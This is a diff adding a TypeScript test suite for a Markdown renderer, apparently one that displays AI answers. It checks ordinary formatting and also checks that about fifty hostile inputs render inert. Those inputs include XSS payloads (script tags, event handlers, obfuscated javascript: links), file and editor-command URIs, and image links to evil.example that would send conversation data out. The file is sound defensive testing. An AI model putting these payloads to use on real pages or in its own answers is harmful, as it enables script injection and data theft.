@@ -1,0 +1,170 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { rendered } from './surroundings.ts';
+
+describe('Markdown becomes', () => {
+  const cases: [name: string, source: string, html: string][] = [
+    [
+      'a paragraph with emphasis',
+      'a **b** *c* ~~d~~ `e`',
+      '<p dir="auto">a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>',
+    ],
+    ['a heading below that of the turn', '# One', '<h3 dir="auto" class="heading-1">One</h3>'],
+    ['headings no deeper than h6', '###### Six', '<h6 dir="auto" class="heading-6">Six</h6>'],
+    ['a tight list', '- a\n- b', '<ul><li dir="auto">a</li><li dir="auto">b</li></ul>'],
+    [
+      'a loose list with paragraphs',
+      '- a\n\n- b',
+      '<ul><li dir="auto"><p dir="auto">a</p></li><li dir="auto"><p dir="auto">b</p></li></ul>',
+    ],
+    ['a list that starts elsewhere', '3. c', '<ol start="3"><li dir="auto">c</li></ol>'],
+    [
+      'a task list',
+      '- [x] a\n- [ ] b',
+      '<ul><li dir="auto" class="task"><input type="checkbox" disabled="" checked="" aria-label="Done">'.concat(
+        '</input>a</li><li dir="auto" class="task"><input type="checkbox" disabled="" aria-label="To do"></input>b</li></ul>',
+      ),
+    ],
+    ['a nested list', '- a\n  1. b', '<ul><li dir="auto">a<ol><li dir="auto">b</li></ol></li></ul>'],
+    ['a quote', '> a', '<blockquote><p dir="auto">a</p></blockquote>'],
+    ['a rule', 'a\n\n---', '<p dir="auto">a</p><hr></hr>'],
+    ['a hard line break', 'a  \nb', '<p dir="auto">a<br></br>b</p>'],
+    [
+      'a table that scrolls by itself',
+      '| a | b |\n|:-:|--:|\n| 1<br>2 | 3 |',
+      '<div class="table-wrapper" tabindex="0" role="group" aria-label="Table"><table><thead><tr>'.concat(
+        '<th dir="auto" scope="col" class="align-center">a</th><th dir="auto" scope="col" class="align-right">b</th>',
+        '</tr></thead><tbody><tr><td dir="auto" class="align-center">1<br></br>2</td>',
+        '<td dir="auto" class="align-right">3</td></tr></tbody></table></div>',
+      ),
+    ],
+    [
+      'a link that tells where it leads',
+      '[docs](https://example.com/a "title")',
+      '<p dir="auto"><a href="https://example.com/a" title="https://example.com/a">docs</a></p>',
+    ],
+    [
+      'a bare address',
+      'https://example.com',
+      '<p dir="auto"><a href="https://example.com/" title="https://example.com/">https://example.com</a></p>',
+    ],
+    [
+      'a mail address',
+      '<me@example.com>',
+      '<p dir="auto"><a href="mailto:me@example.com" title="mailto:me@example.com">me@example.com</a></p>',
+    ],
+    [
+      'a link by reference',
+      '[a][b]\n\n[b]: https://example.com',
+      '<p dir="auto"><a href="https://example.com/" title="https://example.com/">a</a></p>',
+    ],
+    [
+      'a label where a link leads to a file',
+      '[a.ts](src/a.ts)',
+      '<p dir="auto"><span title="src/a.ts">a.ts</span></p>',
+    ],
+    [
+      'characters for their references',
+      '&lt;b&gt; &#65;&#x42; &copy; &unknown;',
+      '<p dir="auto">&lt;b&gt; AB © &amp;unknown;</p>',
+    ],
+    ['code with its references left alone', '`&lt;`', '<p dir="auto"><code>&amp;lt;</code></p>'],
+  ];
+  for (const [name, source, html] of cases) {
+    test(name, () => assert.equal(rendered(source).innerHTML, html));
+  }
+});
+
+test('a code block has its language, a copy button and its code without the last newline', () => {
+  const [block] = rendered('```ts title="a.ts"\nlet a;\n\n```').children;
+  assert.equal(block?.className, 'code-block');
+  const [header, scroller] = block.children;
+  assert.equal(header?.children[0]?.textContent, 'ts');
+  assert.equal(header.children[1]?.getAttribute('data-copy'), '');
+  assert.equal(header.children[1].getAttribute('aria-label'), 'Copy code');
+  assert.equal(scroller?.textContent, 'let a;\n');
+  assert.equal(scroller.getAttribute('tabindex'), '0');
+});
+
+describe('Nothing in an answer becomes markup, script or a request:', () => {
+  const hostile = [
+    '<script>alert(1)</script>',
+    'text <script src="https://evil.example/x.js"></script> text',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)><script>alert(1)</script></svg>',
+    '<svg/onload=alert(1)>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+    '<style>body{background:url(https://evil.example)}</style>',
+    '<form action="https://evil.example"><input name=q></form>',
+    '<link rel=stylesheet href=https://evil.example/x.css>',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<!-- <img src=x onerror=alert(1)> -->',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](java\nscript:alert(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x](javascript&colon;alert(1))',
+    '[x](<java\tscript:alert(1)>)',
+    '[x](\u0001javascript:alert(1))',
+    '[x](vbscript:msgbox(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](file:///etc/passwd)',
+    '[x](command:workbench.action.terminal.new)',
+    '[x](vscode://some.extension/do)',
+    '[x](//evil.example)',
+    '[x](blob:https://evil.example/1)',
+    '[x]: javascript:alert(1)\n\n[x]',
+    '<javascript:alert(1)>',
+    '![x](https://evil.example/pixel.png?conversation=secret)',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+    '![x](javascript:alert(1))',
+    '![x][y]\n\n[y]: https://evil.example/pixel.png',
+    '![<img src=x onerror=alert(1)>](https://evil.example/a.png)',
+    '[![x](https://evil.example/a.png)](https://evil.example)',
+    '[x](https://example.com "\' onmouseover=\'alert(1)")',
+    '[x](https://example.com/"onmouseover="alert(1))',
+    '```"><img src=x onerror=alert(1)>\ncode\n```',
+    '``` onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
+    '`<script>alert(1)</script>`',
+    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
+    '# <script>alert(1)</script>',
+    '> <script>alert(1)</script>',
+    '- <script>alert(1)</script>',
+    '- [ ] <input onfocus=alert(1) autofocus>',
+    '**<script>alert(1)</script>**',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '<details open ontoggle=alert(1)>',
+    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  ];
+  const elements =
+    /^(p|h[3-6]|ul|ol|li|blockquote|hr|br|div|span|a|code|pre|button|strong|em|del|table|thead|tbody|tr|th|td|input)$/;
+  const attributes =
+    /^(class|dir|href|title|tabindex|role|aria-label|aria-hidden|type|disabled|checked|start|scope|data-copy|data-language)$/;
+
+  for (const source of hostile) {
+    test(JSON.stringify(source), () => {
+      for (const element of rendered(source).descendants) {
+        assert.match(element.nodeName.toLowerCase(), elements);
+        for (const { name } of element.attributes) assert.match(name, attributes);
+        const href = element.getAttribute('href');
+        if (href !== null) assert.match(href, /^(https?:\/\/|mailto:)/);
+        if (element.nodeName === 'INPUT') assert.equal(element.getAttribute('type'), 'checkbox');
+      }
+    });
+  }
+
+  test('raw HTML is shown as it was written', () => {
+    assert.equal(rendered('<b onclick=x>hi</b>').textContent, '<b onclick=x>hi</b>');
+    assert.equal(rendered('<div>\n<i>hi</i>\n</div>').textContent, '<div>\n<i>hi</i>\n</div>');
+  });
+
+  test('an image is named and linked, and its address is told', () => {
+    const [link] = rendered('![chart](https://example.com/a.png)').children[0]?.children ?? [];
+    assert.equal(link?.nodeName, 'A');
+    assert.equal(link.textContent, 'chart');
+    assert.equal(link.getAttribute('title'), 'https://example.com/a.png');
+  });
+});
